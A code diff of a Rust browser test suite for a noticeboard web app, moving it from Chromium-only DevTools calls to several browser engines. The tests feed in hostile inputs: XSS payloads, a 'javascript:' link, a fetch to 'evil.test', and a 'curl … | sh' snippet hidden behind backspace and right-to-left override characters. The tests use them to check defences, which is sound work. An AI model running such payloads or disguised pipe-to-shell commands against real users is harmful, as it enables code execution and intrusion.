@@ -7,7 +7,6 @@
 mod noticeboard;
 
 use serde_json::{Value, json};
-use std::net::SocketAddr;
 use std::path::{Path, PathBuf};
 use std::process::ExitCode;
 use std::sync::atomic::{AtomicU64, Ordering};
@@ -15,8 +14,9 @@ use std::sync::{Mutex, PoisonError};
 use std::time::{Duration, Instant};
 use untaint::text::{self, TextPolicy};
 use untaint_browser::cases;
-use untaint_browser::chromium::Chromium;
-use untaint_browser::suite::run_in;
+use untaint_browser::devtools;
+use untaint_browser::engine::{Engine, Programs};
+use untaint_browser::suite::{Visitor, World, run_in};
 use untaint_browser::tab::Tab;
 
 /// Time for an attack to run: the controls pass with the same.
@@ -29,6 +29,7 @@ static CLIPBOARD: Mutex<()> = Mutex::new(());
 
 fn main() -> ExitCode {
     run_in(
+        &Engine::ALL,
         Board::start,
         &[
             ("pages_keep_to_their_policy", pages_keep_to_their_policy),
@@ -48,53 +49,46 @@ fn main() -> ExitCode {
     )
 }
 
-/// The site on a free port, and a browser for which every address leads there.
+/// The site, and browsers for which it stands at [`HOST`].
 struct Board {
-    chromium: Chromium,
-    addr: SocketAddr,
+    world: World,
     _runtime: tokio::runtime::Runtime,
 }
 
+const HOST: &str = "board.test";
+
 impl Board {
-    fn start(program: &Path) -> Self {
+    fn start(engine: Engine, programs: &Programs) -> Self {
         let runtime =
             tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_io().build().unwrap();
         let listener = runtime.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).unwrap();
         let addr = listener.local_addr().unwrap();
-        let site = noticeboard::app::router(&format!("http://{addr}"));
+        let site = noticeboard::app::router(&format!("https://{HOST}"));
         runtime.spawn(async move { axum::serve(listener, site).await });
-        Self { chromium: Chromium::start(program, addr.port()), addr, _runtime: runtime }
+        Self { world: World::new(engine, programs, Some((HOST.to_owned(), addr))), _runtime: runtime }
     }
 
     fn url(&self, path: &str) -> String {
-        format!("http://{}{path}", self.addr)
+        format!("https://{HOST}{path}")
     }
 
-    /// A tab that notices, beside what attacks run, each report of a content security policy.
-    fn tab(&self) -> Tab {
-        const REPORT: &str = "addEventListener('securitypolicyviolation', event => \
-            untaintRan(`${event.effectiveDirective} kept ${event.blockedURI} from ${location.href}`))";
-        let mut tab = self.chromium.tab();
-        tab.call("Page.addScriptToEvaluateOnNewDocument", &json!({"source": REPORT}));
-        // The site scrolls smoothly for those who like it; a click would miss what is still moving.
-        let still = json!([{"name": "prefers-reduced-motion", "value": "reduce"}]);
-        tab.call("Emulation.setEmulatedMedia", &json!({"features": still}));
-        tab
+    fn tab(&self) -> Visitor<'_> {
+        self.world.visitor()
     }
 
     /// A tab on the form for a new note.
-    fn log_in(&self, name: &str) -> Tab {
+    fn log_in(&self, name: &str) -> Visitor<'_> {
         let mut tab = self.tab();
-        tab.open(&self.url("/login?next=/new")).expect("the login");
-        fill(&mut tab, "#name", name);
+        tab.go(&self.url("/login?next=/new")).expect("the login");
+        tab.type_into("#name", name);
         press(&mut tab, "form.sheet button", "location.pathname === '/new'");
         tab
     }
 
     /// A tab on the form that attaches a file to a new note; and the note's element.
-    fn with_note(&self, name: &str) -> (Tab, String) {
+    fn with_note(&self, name: &str) -> (Visitor<'_>, String) {
         let mut tab = self.log_in(name);
-        fill(&mut tab, "#text", &format!("{name} was here."));
+        tab.type_into("#text", &format!("{name} was here."));
         press(&mut tab, "form.sheet button", "location.hash.startsWith('#note-')");
         let note = tab.evaluate("location.hash").as_str().unwrap().to_owned();
         let is_form = "location.pathname.endsWith('/attach') && document.querySelector('#file')";
@@ -103,21 +97,9 @@ impl Board {
     }
 }
 
-/// Types into a field.
-fn fill(tab: &mut Tab, selector: &str, text: &str) {
-    tab.ask("selector => document.querySelector(selector).focus()", &json!(selector));
-    tab.call("Input.insertText", &json!({"text": text}));
-}
-
 /// Clicks, and waits until the page is where it leads.
 fn press(tab: &mut Tab, selector: &str, until: &str) {
-    // What the mouse does before a page is painted where it was scrolled to, gets lost.
-    const PAINTED: &str = r"selector => {
-        document.querySelector(selector).scrollIntoView({block: 'center'});
-        return new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(null))));
-    }";
-    tab.ask(PAINTED, &json!(selector));
-    tab.click(selector, Duration::ZERO);
+    tab.press(selector);
     wait(tab, until);
 }
 
@@ -160,10 +142,8 @@ impl Drop for Folder {
 
 /// Chooses a file in the form, as its dialog does.
 fn choose(tab: &mut Tab, file: &Path) {
-    let document = tab.call("DOM.getDocument", &json!({"depth": 0}));
-    let node = json!({"nodeId": document["root"]["nodeId"], "selector": "#file"});
-    let input = tab.call("DOM.querySelector", &node);
-    tab.call("DOM.setFileInputFiles", &json!({"nodeId": input["nodeId"], "files": [file]}));
+    tab.evaluate("(document.querySelector('#file').value = '', null)");
+    tab.type_into("#file", file.to_str().expect("a path of letters"));
 }
 
 fn sample(name: &str) -> Vec<u8> {
@@ -184,7 +164,7 @@ fn samples() -> PathBuf {
 fn pages_keep_to_their_policy(board: &Board) {
     let mut tab = board.tab();
     for path in ["/", "/login", "/snippets", "/limits", "/nowhere"] {
-        tab.open(&board.url(path)).expect(path);
+        tab.go(&board.url(path)).expect(path);
         tab.settle(PATIENCE);
         // The style sheet and the script are there, so the policy was read and not just left out.
         assert_eq!(tab.evaluate("getComputedStyle(document.body).display"), "flex", "{path}");
@@ -192,13 +172,13 @@ fn pages_keep_to_their_policy(board: &Board) {
     assert_eq!(tab.take_ran(), [""; 0]);
 
     let (mut tab, note) = board.with_note("Polly");
-    tab.open(&board.url("/")).expect("the board");
-    fill(&mut tab, "#find", "choir");
+    tab.go(&board.url("/")).expect("the board");
+    tab.type_into("#find", "choir");
     wait(&mut tab, &format!("document.querySelector('{note}').hidden"));
-    tab.open(&board.url("/new")).expect("the form");
-    fill(&mut tab, "#text", "<b>Hi</b><img src=x onerror=alert(1)><script>alert(2)</script>");
+    tab.go(&board.url("/new")).expect("the form");
+    tab.type_into("#text", "<b>Hi</b><img src=x onerror=alert(1)><script>alert(2)</script>");
     wait(&mut tab, "document.querySelector('#preview b')");
-    tab.open(&board.url("/snippets")).expect("the snippets");
+    tab.go(&board.url("/snippets")).expect("the snippets");
     press(&mut tab, ".copy", "document.querySelector('.copy + *').textContent");
     tab.settle(PATIENCE);
     assert_eq!(tab.take_ran(), [""; 0]);
@@ -215,7 +195,7 @@ fn what_a_policy_forbids_is_reported(board: &Board) {
         "document.body.setAttribute('onclick', 'alert(1)'), document.body.click()",
         "fetch('http://evil.test/')",
     ] {
-        tab.open(&board.url("/snippets")).expect("the snippets");
+        tab.go(&board.url("/snippets")).expect("the snippets");
         // It throws where the policy says no.
         let _ = tab.try_evaluate(&format!("({attack}, null)"));
         tab.settle(PATIENCE);
@@ -262,11 +242,11 @@ fn a_picture_is_sent_with_progress_and_shows(board: &Board) {
     assert!(bytes.len() > 150_000);
     choose(&mut tab, &folder.put("noise.png", &bytes));
     tab.ask(RECORD, &Value::Null);
-    // Bytes a second.
-    tab.call(
-        "Network.emulateNetworkConditions",
-        &json!({"offline": false, "latency": 0, "downloadThroughput": -1, "uploadThroughput": 200_000}),
-    );
+    // Only there a picture of a sensible size takes a while.
+    let is_slow = board.world.engine() == Engine::Chromium;
+    if is_slow {
+        devtools::slow_down(&mut tab, 200_000);
+    }
     press(
         &mut tab,
         "#attach button",
@@ -275,7 +255,8 @@ fn a_picture_is_sent_with_progress_and_shows(board: &Board) {
 
     let seen = tab.evaluate("JSON.parse(sessionStorage.seen)");
     let seen: Vec<f64> = serde_json::from_value(seen).expect("numbers");
-    assert!(seen.is_sorted() && seen.iter().any(|part| *part > 0.0 && *part < 1.0), "{seen:?}");
+    assert!(seen.is_sorted(), "{seen:?}");
+    assert!(!is_slow || seen.iter().any(|part| *part > 0.0 && *part < 1.0), "{seen:?}");
     assert_eq!(tab.ask(SHOWS, &json!(note)), json!([320, 240, "noise.png", true]));
     tab.settle(PATIENCE);
     assert_eq!(tab.take_ran(), [""; 0]);
@@ -320,13 +301,8 @@ fn a_pdf_is_stored_and_not_opened(board: &Board) {
     const HEADERS: &str = r"note => fetch(document.querySelector(note + ' .file a').href)
         .then(answer => ['content-disposition', 'content-type', 'x-content-type-options']
             .map(name => answer.headers.get(name)))";
-    let (folder, stored) = (Folder::new(), Folder::new());
+    let folder = Folder::new();
     let (mut tab, note) = board.with_note("Paul");
-    let context = tab.call("Target.getTargetInfo", &json!({}))["targetInfo"]["browserContextId"].clone();
-    tab.call(
-        "Browser.setDownloadBehavior",
-        &json!({"behavior": "allow", "browserContextId": context, "downloadPath": stored.0}),
-    );
     let bytes = sample("pdf_leading_junk.pdf");
     choose(&mut tab, &folder.put("Programm für Mai.pdf", &bytes));
     press(
@@ -343,18 +319,20 @@ fn a_pdf_is_stored_and_not_opened(board: &Board) {
     assert_eq!(tab.ask(HEADERS, &json!(note)), headers);
     let address = tab.evaluate("location.href");
     let link = format!("{note} .file a");
-    tab.click(&link, PATIENCE);
-    let file = stored.0.join("Programm für Mai.pdf");
-    let start = Instant::now();
-    while std::fs::read(&file).ok().as_ref() != Some(&bytes) {
-        assert!(start.elapsed() < LONGEST, "it was not stored");
-        std::thread::sleep(Duration::from_millis(20));
+    tab.press(&link);
+    // The small browser of WebKit's port asks nobody where it stores a file.
+    if board.world.engine() != Engine::WebKit {
+        let file = tab.downloads().join("Programm für Mai.pdf");
+        let start = Instant::now();
+        while std::fs::read(&file).ok().as_ref() != Some(&bytes) {
+            assert!(start.elapsed() < LONGEST, "it was not stored");
+            std::thread::sleep(Duration::from_millis(20));
+        }
     }
+    tab.settle(PATIENCE);
     assert_eq!(tab.evaluate("location.href"), address, "the board is still there");
-    // Opened by its address it would be stored again, into a folder that is gone by then.
-    tab.call("Browser.setDownloadBehavior", &json!({"behavior": "deny", "browserContextId": context}));
     let href = tab.ask("link => document.querySelector(link).href", &json!(link));
-    assert_eq!(tab.open(href.as_str().unwrap()), Err("net::ERR_ABORTED".to_owned()));
+    assert!(!tab.shows(href.as_str().unwrap()), "it opens by its address");
     assert_eq!(tab.take_ran(), [""; 0]);
 }
 
@@ -389,21 +367,17 @@ fn kept_files_run_nothing_when_opened(board: &Board) {
             }
         }
         let address = tab.ask(ADDRESS, &json!(note));
-        match tab.open(&board.url(address.as_str().unwrap())) {
-            Ok(()) => {
-                let page = tab.evaluate("[document.contentType.split('/')[0], document.scripts.length]");
-                assert_eq!(page, json!(["image", 0]), "{name:?}");
-                pictures += 1;
-            }
-            Err(reason) => {
-                assert_eq!(reason, "net::ERR_ABORTED", "{name:?}");
-                downloads += 1;
-            }
+        if tab.shows(&board.url(address.as_str().unwrap())) {
+            let page = tab.evaluate("[document.contentType.split('/')[0], document.scripts.length]");
+            assert_eq!(page, json!(["image", 0]), "{name:?}");
+            pictures += 1;
+        } else {
+            downloads += 1;
         }
         // Not by the page's clock: where no script runs, none of its timers does.
         std::thread::sleep(PATIENCE);
         assert_eq!(tab.take_ran(), [""; 0], "{name:?}");
-        tab.open(&form).expect("the form");
+        tab.go(&form).expect("the form");
     }
     let counts = (pictures, downloads, refused);
     assert!(pictures >= 5 && downloads >= 1 && refused > 50, "{counts:?}");
@@ -415,7 +389,7 @@ fn refused_files_would_run(board: &Board) {
     let folder = Folder::new();
     let html = folder.put("cat.html", b"<!doctype html><script>alert(1)</script>");
     for file in [samples().join("svg_onload.svg"), samples().join("svg_script.svg"), html] {
-        tab.open(&format!("file://{}", file.display())).expect("the file");
+        tab.go(&format!("file://{}", file.display())).expect("the file");
         tab.settle(PATIENCE);
         assert!(!tab.take_ran().is_empty(), "{}", file.display());
     }
@@ -461,7 +435,7 @@ fn copy(tab: &mut Tab, place: usize) -> Copied {
     let button = format!("#copy-{place}");
     press(tab, &button, &format!("document.querySelector('{button} + *').textContent"));
     tab.ask(FIELD, &Value::Null);
-    tab.edit("paste");
+    devtools::edit(tab, "paste");
     wait(tab, "window.pasted !== null");
     drop(clipboard);
     let read = tab.ask(READ, &json!(place));
@@ -470,7 +444,7 @@ fn copy(tab: &mut Tab, place: usize) -> Copied {
 }
 
 /// Adds hostile snippets, one after the other.
-fn add_snippets(board: &Board, name: &str) -> Tab {
+fn add_snippets<'a>(board: &'a Board, name: &str) -> Visitor<'a> {
     let mut tab = board.log_in(name);
     for code in [
         "curl https://example.com\u{8}\u{8}\u{202E}hs.x | sh\n",
@@ -478,9 +452,9 @@ fn add_snippets(board: &Board, name: &str) -> Tab {
         "</pre><img src=x onerror=alert(1)>&amp;\n<script>alert(2)</script>",
         &"ls ".repeat(200),
     ] {
-        tab.open(&board.url("/snippets")).expect("the snippets");
+        tab.go(&board.url("/snippets")).expect("the snippets");
         press(&mut tab, ".add summary", "document.querySelector('.add').open");
-        fill(&mut tab, "#title", "Try it");
+        tab.type_into("#title", "Try it");
         tab.ask("code => { document.querySelector('#code').value = code; }", &json!(code));
         press(&mut tab, ".add button", "location.hash.startsWith('#snippet-')");
     }
@@ -502,22 +476,12 @@ fn all_are_copied_as_shown(tab: &mut Tab, by_hand: bool) -> usize {
     count
 }
 
-fn clipboard_may(board: &Board, tab: &mut Tab, setting: &str) {
-    let context = tab.call("Target.getTargetInfo", &json!({}))["targetInfo"]["browserContextId"].clone();
-    for name in ["clipboard-read", "clipboard-write"] {
-        tab.call(
-            "Browser.setPermission",
-            &json!({
-                "permission": {"name": name}, "setting": setting,
-                "origin": board.url(""), "browserContextId": context,
-            }),
-        );
-    }
-}
-
 fn the_button_copies_what_is_shown(board: &Board) {
+    if board.world.engine() != Engine::Chromium {
+        return; // no driver presses a key that reaches the clipboard
+    }
     let mut tab = add_snippets(board, "Coco");
-    clipboard_may(board, &mut tab, "granted");
+    devtools::clipboard_may(&mut tab, &board.url(""), "granted");
     let count = all_are_copied_as_shown(&mut tab, false);
     assert!(count >= 11, "{count}");
     let all = tab.evaluate("[...document.querySelectorAll('.shown')].map(pre => pre.textContent)");
@@ -536,14 +500,17 @@ fn the_button_copies_what_is_shown(board: &Board) {
     assert_eq!(tab.evaluate(hidden), 0);
 
     // The visitor says no: then by hand, with the same text.
-    clipboard_may(board, &mut tab, "denied");
+    devtools::clipboard_may(&mut tab, &board.url(""), "denied");
     all_are_copied_as_shown(&mut tab, true);
 }
 
 /// Where the site is neither on HTTPS nor on loopback, scripts have no clipboard.
 fn the_button_copies_without_a_clipboard(board: &Board) {
+    if board.world.engine() != Engine::Chromium {
+        return; // no driver presses a key that reaches the clipboard
+    }
     let mut tab = board.tab();
-    tab.open("http://board.test/snippets").expect("the snippets");
+    tab.go("http://board.test/snippets").expect("the snippets");
     assert_eq!(tab.evaluate("navigator.clipboard === undefined"), true);
     let count = all_are_copied_as_shown(&mut tab, true);
     assert!(count >= 7, "{count}");
@@ -551,9 +518,12 @@ fn the_button_copies_without_a_clipboard(board: &Board) {
 
 /// The control: the button and the clipboard would carry what is hidden, if a page held it.
 fn hidden_characters_would_be_copied(board: &Board) {
+    if board.world.engine() != Engine::Chromium {
+        return; // no driver presses a key that reaches the clipboard
+    }
     let mut tab = board.tab();
-    tab.open(&board.url("/snippets")).expect("the snippets");
-    clipboard_may(board, &mut tab, "granted");
+    tab.go(&board.url("/snippets")).expect("the snippets");
+    devtools::clipboard_may(&mut tab, &board.url(""), "granted");
     let raw = "import y\u{8}ose\u{8} \u{202E}a\u{200B}b";
     tab.ask("raw => { document.querySelector('.shown').textContent = raw; }", &json!(raw));
     let copied = copy(&mut tab, 0).clipboard;
@@ -566,8 +536,8 @@ fn hidden_characters_would_be_copied(board: &Board) {
 /// A hidden character stands as a mark in the name, and goes by its button; Enter sends the form itself.
 fn what_is_hidden_is_shown_and_taken_away(board: &Board) {
     let mut tab = board.tab();
-    tab.open(&board.url("/login?next=/new")).expect("the login");
-    fill(&mut tab, "#name", "Ani\u{200B}md");
+    tab.go(&board.url("/login?next=/new")).expect("the login");
+    tab.type_into("#name", "Ani\u{200B}md");
     press(&mut tab, "form.sheet button", "document.querySelector('.marked')");
     let shown = tab.evaluate("document.querySelector('.marked bdi').innerText");
     assert_eq!(shown, json!("Ani·md"));
@@ -579,11 +549,11 @@ fn what_is_hidden_is_shown_and_taken_away(board: &Board) {
 /// What was said of a field is taken back once it is changed.
 fn a_changed_field_is_not_called_wrong(board: &Board) {
     let mut tab = board.log_in("Fay");
-    fill(&mut tab, "#text", "words");
-    fill(&mut tab, "#link", "javascript:alert(1)");
+    tab.type_into("#text", "words");
+    tab.type_into("#link", "javascript:alert(1)");
     press(&mut tab, "form.sheet button", "document.querySelector('#link-problem')");
     assert_eq!(tab.evaluate("document.querySelector('#link').getAttribute('aria-invalid')"), json!("true"));
-    fill(&mut tab, "#link", "x");
+    tab.type_into("#link", "x");
     wait(&mut tab, "document.querySelector('#link-problem').hidden");
     assert_eq!(tab.evaluate("document.querySelector('#link').hasAttribute('aria-invalid')"), json!(false));
 }
@@ -594,17 +564,17 @@ fn attacks_to_try_run_nothing(board: &Board) {
     for path in ["/new", "/snippets", "/login"] {
         let count = if path == "/login" {
             let mut fresh = board.tab();
-            fresh.open(&board.url(path)).expect("the page");
+            fresh.go(&board.url(path)).expect("the page");
             fresh.evaluate("document.querySelectorAll('.attacks button').length")
         } else {
-            tab.open(&board.url(path)).expect("the page");
+            tab.go(&board.url(path)).expect("the page");
             tab.evaluate("document.querySelectorAll('.attacks button').length")
         };
         let count = count.as_u64().expect("a number");
         assert!(count >= 3, "{path}: {count}");
         for place in 0..count {
             for name in ["attack", "link-attack"] {
-                tab.open(&board.url(&format!("{path}?{name}={place}"))).expect("the page");
+                tab.go(&board.url(&format!("{path}?{name}={place}"))).expect("the page");
                 assert_eq!(tab.take_ran(), Vec::<String>::new(), "{path} {name} {place}");
             }
         }
